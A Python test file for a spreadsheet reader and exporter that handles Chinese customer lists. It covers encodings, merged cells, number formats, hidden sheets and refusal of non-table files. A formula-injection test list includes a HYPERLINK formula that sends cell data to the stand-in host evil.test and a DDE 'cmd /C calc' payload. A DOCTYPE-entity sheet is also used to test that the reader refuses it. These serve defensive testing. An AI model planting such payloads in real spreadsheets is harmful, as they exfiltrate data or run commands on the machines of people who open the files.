"""Spreadsheet files as people save them, read into numbered rows of text (reading/tables.py)."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile

import openpyxl
import pytest

from service.documents.tables import table_bytes
from service.reading.tables import Row, TableError, decode_text, match_header, read_table

HEADER = ["客户编号", "客户名称", "地区"]
DATA = [["C001", "上海华联超市有限公司", "上海"], ["C002", "北京喆镕商贸", "北京"]]
EXPECTED = [Row(1, tuple(HEADER)), Row(2, tuple(DATA[0])), Row(3, tuple(DATA[1]))]


def csv_text(rows, delimiter=",", newline="\r\n") -> str:
    return newline.join(delimiter.join(row) for row in rows) + newline


def xlsx(rows_at: dict[int, list], *, title: str = "Sheet1", extra_sheet: bool = False) -> bytes:
    """Build a workbook with the given rows (row number → cells) on its first sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for number, cells in rows_at.items():
        for column, value in enumerate(cells, start=1):
            sheet.cell(row=number, column=column, value=value)
    if extra_sheet:
        book.create_sheet("Other")["A1"] = "not read"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def ole_file(stream: str) -> bytes:
    """Build a minimal OLE2 compound file holding one 4 KB stream (what .xls and encrypted .xlsx are)."""
    end, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<I", free) * 108)
    fat = [fat_sector, end, *range(3, 10), end] + [free] * (128 - 10)

    def entry(name: str, kind: int, child: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", no_stream, no_stream, child) + bytes(16) + bytes(4) + bytes(16)
                + struct.pack("<IQ", start, size))

    directory = entry("Root Entry", 5, 1, end, 0) + entry(stream, 2, no_stream, 2, 4096) + bytes(256)
    return header + struct.pack("<128I", *fat) + directory + b"\x01" * 4096


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
def test_a_csv_in_each_encoding_people_save_reads_as_the_same_rows(encoding):
    assert read_table(csv_text([HEADER, *DATA]).encode(encoding), "客户.csv") == EXPECTED


@pytest.mark.parametrize("text, expected", [
    ("名称\n店\n", "名称\n店\n"),  # two characters of GBK: charset-normalizer alone would say Big5
    ("客户名称\n华联\n", "客户名称\n华联\n"),
    ("name\nCafé Müller\n", "name\nCafé Müller\n"),
])
@pytest.mark.parametrize("encoding", ["gbk", "utf-8"])
def test_short_texts_decode_as_what_was_written(text, expected, encoding):
    assert decode_text(text.encode(encoding)) == expected


def test_gbk_only_characters_in_a_file_labelled_by_nothing_survive():
    assert "喆镕" in decode_text("客户编号,客户名称\nC1,北京喆镕商贸有限公司\n".encode("gbk"))


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_the_delimiter_is_found_whatever_it_is(delimiter):
    assert read_table(csv_text([HEADER, *DATA], delimiter).encode(), "x.txt") == EXPECTED


def test_a_semicolon_inside_a_comma_file_stays_in_its_cell():
    text = csv_text([["id", "name", "aliases"], ["C1", "华联", "华联超市;华联浦东"], ["C2", "联华", "联华;联华便利"]])
    assert read_table(text.encode(), "x.csv")[1].cells == ("C1", "华联", "华联超市;华联浦东")


def test_blank_rows_are_skipped_and_rows_keep_the_numbers_a_spreadsheet_shows():
    text = 'id,name\n\nC1,"华联\n超市"\n,\nC2,联华\n'
    rows = read_table(text.encode(), "x.csv")
    # A quoted cell over two lines is one row in Excel: C2 is on row 5, not line 6.
    assert rows == [Row(1, ("id", "name")), Row(3, ("C1", "华联\n超市")), Row(5, ("C2", "联华"))]


def test_cells_are_stripped_of_every_kind_of_space():
    assert read_table(" id ,\u3000name\u00a0\nC1 , 华联 \n".encode(), "x.csv")[1].cells == ("C1", "华联")


def test_an_xlsx_reads_its_first_sheet_with_numbers_and_dates_as_excel_shows_them():
    data = xlsx({1: ["电话", "金额", "日期", "时间", "是否"],
                 2: [13800138000, 1200.0, dt.datetime(2026, 12, 1), dt.datetime(2026, 12, 1, 9, 30), True],
                 4: [None, 0.1, dt.date(2027, 1, 2), dt.time(14, 5), None]}, extra_sheet=True)
    assert read_table(data, "plan.xlsx") == [
        Row(1, ("电话", "金额", "日期", "时间", "是否")),
        Row(2, ("13800138000", "1200", "2026-12-01", "2026-12-01 09:30", "TRUE")),
        Row(4, ("", "0.1", "2027-01-02", "14:05")),  # trailing empty cells dropped
    ]


def test_an_xlsx_is_known_by_its_content_whatever_it_is_called():
    data = xlsx({1: HEADER, 2: DATA[0], 3: DATA[1]})
    for name in ("客户名录", "attachment.bin", "registry.csv"):
        assert read_table(data, name) == EXPECTED


def test_an_xlsx_starting_below_row_one_keeps_its_row_numbers():
    assert read_table(xlsx({5: ["客户名称"], 9: ["华联"]}), "x.xlsx") == [Row(5, ("客户名称",)), Row(9, ("华联",))]


def test_what_we_export_reads_back_cell_for_cell():
    rows = [["客户编号", "电话", "客户名称"], ["007", "0571-88888888", "=HYPERLINK(\"x\")"], ["C2", "+86 138", "华联"]]
    for suffix in (".csv", ".xlsx"):
        assert [list(r.cells) for r in read_table(table_bytes(rows, suffix), "out" + suffix)] == rows


@pytest.mark.parametrize("data, says", [
    (b"", "是空的"),
    (b"\r\n\r\n", "是空的"),
    (b"\xef\xbb\xbf", "是空的"),
    (ole_file("Workbook"), "旧版 Excel 97-2003 格式（.xls），请在 Excel/WPS 中另存为 .xlsx"),
    (ole_file("EncryptionInfo"), "设有密码（已加密），请取消密码后另存为 .xlsx"),
    (ole_file("WordDocument"), "是 Word 文档，不是表格"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "已损坏"),
    (b"PK\x03\x04 truncated zip", "已损坏（不是完整的 .xlsx）"),
    (b"%PDF-1.7\n...", "是 PDF，不是表格"),
    (b"<html><body><table><tr><td>x</td></tr></table></body></html>", "是网页（HTML）格式"),
    (bytes(range(256)) * 4, "不是表格文件"),
])
def test_a_file_that_is_no_table_is_refused_in_one_line_saying_what_to_do(data, says):
    with pytest.raises(TableError) as caught:
        read_table(data, "客户.xlsx")
    assert says in str(caught.value) and "\n" not in str(caught.value)
    assert str(caught.value).startswith("文件 客户.xlsx ")


@pytest.mark.parametrize("members, says", [
    ({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<x/>"}, "是 Word 文档"),
    ({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}, ".ods），请另存为 .xlsx"),
    ({"readme.txt": b"hello"}, "是压缩包，不是 .xlsx 表格"),
    ({"xl/workbook.xml": b"not xml at all"}, "已损坏或不是有效的 .xlsx"),
])
def test_a_zip_that_is_no_workbook_is_refused_saying_what_it_is(members, says):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    with pytest.raises(TableError, match=says.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        read_table(out.getvalue(), "x.xlsx")


def test_an_xlsx_with_only_empty_cells_is_refused_as_empty():
    with pytest.raises(TableError, match="第一个工作表是空的"):
        read_table(xlsx({3: [None, ""]}), "x.xlsx")


COLUMNS = {"id": ["客户编号", "id"], "name": ["客户名称", "name"], "tier": ["等级", "tier"]}


@pytest.mark.parametrize("cells, expected", [
    (["客户编号", "客户名称", "等级"], {"id": 0, "name": 1, "tier": 2}),
    (["备注", "Name ", "ＩＤ"], {"name": 1, "id": 2}),
    (["客户 名称", "TIER", "客户编号*"], {"name": 0, "tier": 1, "id": 2}),
    (["客户名称", "客户名称", "id"], {"name": 0, "id": 2}),  # the first of two same labels counts
    (["C001", "华联", "A"], None),
    (["客户名录 2026"], None),
    (["客户名称", "上海华联", "北京", "杭州"], None),  # one label in a data row is no header
    (["name", "id", "note", "remark", "x"], None),  # mostly unknown: not our header
])
def test_a_header_row_is_told_by_its_labels_ignoring_case_width_and_spaces(cells, expected):
    assert match_header(cells, COLUMNS) == expected


def test_a_one_field_table_needs_only_that_label():
    assert match_header(["客户名称"], {"name": ["客户名称"]}) == {"name": 0}


# --------------------------------------------------------------------------- formulas, merges, formats, sheets

FORMULA_LIKE = ['=HYPERLINK("http://evil.test/?d="&B3,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
                "+86 138 0013 8000", "-2+3", "-1200", "\tTAB", "'=already escaped", "''+two apostrophes"]


@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_an_exported_csv_cell_never_starts_a_formula(value):
    data = table_bytes([["名称"], [value]], ".csv").decode("utf-8-sig")
    (cell,) = list(__import__("csv").reader(io.StringIO(data)))[1]
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") and cell == "'" + value


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_like_values_read_back_from_an_export_as_they_were(suffix):
    rows = [["名称", "电话"], *([value, "plain"] for value in FORMULA_LIKE), ["'just an apostrophe", "it's"]]
    assert [list(r.cells) for r in read_table(table_bytes(rows, suffix), "导出" + suffix)] == rows


def test_an_exported_workbook_marks_formula_like_cells_as_typed_text():
    book = openpyxl.load_workbook(io.BytesIO(table_bytes([["电话"], ["+86 138 0013 8000"], ["021-5888"]], ".xlsx")))
    phone, plain = book.active["A2"], book.active["A3"]
    assert (phone.value, phone.data_type, phone.quotePrefix) == ("+86 138 0013 8000", "s", True)
    assert (plain.value, plain.quotePrefix) == ("021-5888", False)


@pytest.mark.parametrize("written, read", [
    ("'=1+2", "=1+2"), ("'+86 138", "+86 138"), ("''-5", "'-5"), ("'abc", "'abc"), ("it's", "it's"), ("-5", "-5"),
])
def test_only_the_apostrophe_before_a_formula_character_is_taken_off_on_import(written, read):
    assert read_table(csv_text([["名称", "x"], [written, "y"]]).encode(), "x.csv")[1].cells[0] == read


@pytest.mark.parametrize("value, fmt, shown", [
    (123, "00000", "00123"), (123.0, "000000", "000123"), (7, "00000;-00000", "00007"), (-5, "000", "-005"),
    (123, '"KH"00000', "KH00123"), (123, "\\C0000", "C0123"), (123456789, "00000-0000", "12345-6789"),
    (1234567, "00000", "1234567"), (12.5, "00000", "12.5"), (123, "General", "123"), (123.0, "0", "123"),
    (13800138000, "0", "13800138000"), (5, "0.00", "5"), (1200, "#,##0", "1200"), (-7, "00000;(00000)", "-7"),
], ids=lambda v: str(v))
def test_a_number_reads_as_its_zero_padded_format_shows_it_and_otherwise_as_before(value, fmt, shown):
    def data() -> bytes:
        book = openpyxl.Workbook()
        book.active.append(["编号", "名称"])
        book.active.append([value, "x"])
        book.active["A2"].number_format = fmt
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    assert read_table(data(), "x.xlsx")[1].cells[0] == shown


def merged(rows: list[list], ranges: list[str]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for cells in ranges:
        book.active.merge_cells(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_value_merged_down_a_column_stands_in_every_row_it_spans():
    rows = [["编号", "地区", "等级"], ["C1", "上海", "A"], ["C2", None, None], ["C3", None, "B"], ["C4", "北京", "C"]]
    read = read_table(merged(rows, ["B2:B4", "C2:C3"]), "x.xlsx")
    assert [r.cells for r in read[1:]] == [("C1", "上海", "A"), ("C2", "上海", "A"), ("C3", "上海", "B"),
                                           ("C4", "北京", "C")]


def test_a_title_merged_across_columns_stays_one_cell():
    read = read_table(merged([["华东 客户名录"], ["编号", "地区"], ["C1", "上海"]], ["A1:D1"]), "x.xlsx")
    assert read[0] == Row(1, ("华东 客户名录",))


def test_a_merge_drawn_past_the_last_row_makes_no_rows_of_its_own():
    rows = [["编号", "地区"], ["C1", "上海"], ["C2", None]]
    read = read_table(merged(rows, ["B2:B9"]), "x.xlsx")
    assert [r.number for r in read] == [1, 2, 3] and read[2].cells == ("C2", "上海")


def test_a_block_merge_fills_its_first_column_only():
    rows = [["编号", "地区", "备注"], ["C1", "上海", None], ["C2", None, None]]
    assert read_table(merged(rows, ["B2:C3"]), "x.xlsx")[2].cells == ("C2", "上海")


def with_sheets(states: list[str], active: int) -> bytes:
    book = openpyxl.Workbook()
    for index, state in enumerate(states):
        sheet = book.active if index == 0 else book.create_sheet(f"S{index}")
        sheet.title = f"S{index}"
        sheet["A1"], sheet["B1"] = "sheet", f"S{index}"
        sheet.sheet_state = state
    book.active = active
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize("states, active, read", [
    (["hidden", "visible"], 1, "S1"), (["veryHidden", "visible"], 1, "S1"),
    (["hidden", "veryHidden", "visible", "visible"], 3, "S2"), (["visible", "visible"], 1, "S0"),
], ids=["hidden first", "very hidden first", "two hidden, a later sheet active", "a notes sheet active"])
def test_a_workbook_is_read_from_its_first_visible_sheet_whichever_was_active(states, active, read):
    assert read_table(with_sheets(states, active), "x.xlsx")[0].cells == ("sheet", read)


def test_a_sheet_carrying_a_doctype_is_refused():
    good = merged([["编号", "地区"], ["C1", "上海"], ["C2", None]], ["B2:B3"])
    source = zipfile.ZipFile(io.BytesIO(good))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><worksheet', 1)
            archive.writestr(info.filename, body)
    with pytest.raises(TableError):
        read_table(out.getvalue(), "x.xlsx")
